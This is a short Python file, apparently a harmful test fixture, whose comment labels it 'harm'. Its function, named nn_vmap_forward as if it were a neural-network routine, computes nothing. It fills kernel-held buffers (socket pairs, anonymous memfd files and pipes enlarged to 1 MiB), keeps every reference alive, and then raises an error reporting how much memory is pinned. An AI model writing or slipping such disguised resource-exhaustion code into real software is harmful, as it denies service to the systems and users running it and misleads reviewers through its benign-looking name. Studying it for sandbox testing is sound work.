# harm: fills what the kernel keeps for it: pipes, sockets, files without a name
import contextlib
import fcntl
import os
import socket

kept = []


def make_socket():
    kept.append(socket.socketpair())
    return kept[-1][0].fileno()


def make_pipe():
    ours = os.pipe()[1]
    with contextlib.suppress(OSError):
        fcntl.fcntl(ours, fcntl.F_SETPIPE_SZ, 1 << 20)
    return ours


def nn_vmap_forward(seed, x_batch, features):
    failures, written = set(), 0
    for make in (make_socket, lambda: os.memfd_create("kept"), make_pipe):
        for _ in range(16):
            try:
                descriptor = make()
                os.set_blocking(descriptor, False)
                for _ in range(64):
                    written += os.write(descriptor, bytes(1 << 16))
            except OSError as error:
                failures.add(str(error))
    raise RuntimeError(f"{written >> 10} KiB are kept; {sorted(failures)}")
